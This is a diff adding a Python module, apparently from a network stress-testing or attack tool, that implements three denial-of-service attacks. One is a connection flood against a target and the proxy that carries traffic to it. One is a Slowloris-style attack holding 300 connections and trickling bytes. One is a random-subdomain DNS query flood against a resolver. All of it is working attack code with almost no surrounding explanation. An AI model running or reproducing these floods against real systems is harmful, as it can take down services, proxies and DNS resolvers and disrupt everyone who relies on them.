@@ -1,0 +1,93 @@
+"""Attacks on whoever carries connections: more of them than can be carried, and some that never come to the point."""
+
+from __future__ import annotations
+
+import contextlib
+import socket
+import struct
+import time
+from collections.abc import Iterator, Sequence
+
+from .talk import connect, connect_to_proxy, must_reach, proxy_credentials
+from .way import Way
+
+__all__ = ["flood_the_way_out", "flood_with_lookups", "keep_the_way_out_busy"]
+
+_AT_ONCE = 300  # connections
+_PAUSE = 0.002  # seconds, for whoever is attacked to be the one that works
+
+
+def flood_the_way_out(granted: Sequence[object], seconds: float) -> Iterator[Way]:
+    """Connect and hang up, as often as it goes, to the granted service and to whatever carries to it."""
+    host, port = str(granted[0]), int(str(granted[1]))
+    must_reach(host, port)
+    yield "connections", lambda: _flooded(host, port, seconds)
+
+
+def keep_the_way_out_busy(granted: Sequence[object], seconds: float) -> Iterator[Way]:
+    """Hold many connections, and say something a letter at a time on each of them."""
+    host, port = str(granted[0]), int(str(granted[1]))
+    must_reach(host, port)
+    yield "slow requests", lambda: _held(host, port, seconds)
+
+
+def flood_with_lookups(granted: Sequence[object], name: str, server: Sequence[object], seconds: float) -> Iterator[Way]:
+    """Ask for names without end, another one each time."""
+    must_reach(str(granted[0]), int(str(granted[1])))
+    yield "lookups", lambda: _asked_without_end(name, (str(server[0]), int(str(server[1]))), seconds)
+
+
+def _flooded(host: str, port: int, seconds: float) -> str:
+    made, deadline = 0, time.monotonic() + seconds
+    asking = f"GET http://{host}:{port}/ HTTP/1.1\r\nHost: {host}:{port}\r\n".encode() + proxy_credentials() + b"\r\n"
+    while time.monotonic() < deadline:
+        for open_one in (lambda: connect(host, port), connect_to_proxy):
+            with contextlib.suppress(OSError), open_one() as line:
+                line.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
+                line.sendall(asking)
+                made += 1
+    if not made:
+        raise RuntimeError("not one connection was made")
+    return f"{made} connections"
+
+
+def _held(host: str, port: int, seconds: float) -> str:
+    with contextlib.ExitStack() as stack:
+        lines = []
+        with contextlib.suppress(OSError):
+            while len(lines) < _AT_ONCE:
+                lines.append(stack.enter_context(_begun(host, port)))
+        deadline = time.monotonic() + seconds
+        while time.monotonic() < deadline:
+            for line in lines:
+                with contextlib.suppress(OSError):
+                    line.send(b"x")
+            time.sleep(_PAUSE)
+    if not lines:
+        raise RuntimeError("not one connection was made")
+    return f"{len(lines)} connections"
+
+
+def _begun(host: str, port: int) -> socket.socket:
+    try:
+        line = connect(host, port)
+    except OSError:
+        line = connect_to_proxy()
+    line.setblocking(False)
+    line.send(b"GET / HTTP/1.1\r\nX: ")
+    return line
+
+
+def _asked_without_end(name: str, server: tuple[str, int], seconds: float) -> str:
+    sent, deadline = 0, time.monotonic() + seconds
+    rest = b"".join(bytes([len(label)]) + label for label in name.encode().split(b".")) + b"\0\0\1\0\1"
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asker:
+        asker.connect(server)
+        asker.setblocking(False)
+        while time.monotonic() < deadline:
+            label = b"%d" % sent
+            query = struct.pack(">HHHHHH", sent & 0xFFFF, 0x100, 1, 0, 0, 0) + bytes([len(label)]) + label + rest
+            with contextlib.suppress(OSError):
+                asker.send(query)
+                sent += 1
+    return f"{sent} lookups"
